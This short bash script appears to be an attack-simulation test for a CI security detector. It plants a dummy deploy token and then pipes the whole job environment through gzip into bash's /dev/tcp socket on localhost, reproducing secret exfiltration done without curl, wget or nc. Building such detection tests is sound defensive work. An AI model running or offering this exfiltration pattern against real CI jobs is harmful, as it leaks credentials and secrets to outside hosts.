#!/bin/bash
# technique: T1552.001 Unsecured Credentials (CI secrets in the environment); T1048 Exfiltration Over Alternative Protocol
# reproduces: exfiltration without any network program: the job's environment compressed and written straight into bash's /dev/tcp socket, the curl-less variant of the pwn-request payloads (and of reverse-shell cheat sheets' `> /dev/tcp/HOST/PORT`)
# expect: environment-sent-to-network ^gzip$
# exec-borne: no
#
# No curl, wget or nc: the shell opens the socket, gzip writes into it.
set -u

export CI_DEPLOY_TOKEN="ghp_buildwardenAttackTest0000000000000000"

ship() {
	env | gzip -c >"/dev/tcp/127.0.0.1/${BW_ATTACK_PORT:?}"
}
ship 2>/dev/null || true
